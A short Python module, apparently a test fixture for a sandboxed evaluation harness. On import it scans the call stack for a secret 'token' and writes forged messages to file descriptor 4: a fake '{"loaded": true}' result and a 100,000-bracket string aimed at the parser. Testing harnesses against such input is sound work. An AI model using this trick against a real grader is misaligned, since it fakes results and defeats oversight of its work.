"""Claims to be loaded, with forged results, while being imported."""

import os
import struct
import sys

frame = sys._getframe()
while frame:
    token = frame.f_locals.get("token")
    if type(token) is bytes:
        for payload in (b'{"loaded": true}', b"[" * 100_000):
            os.write(4, struct.pack("<I", len(payload) + 8) + token + payload)
    frame = frame.f_back


def f(x):
    return 0
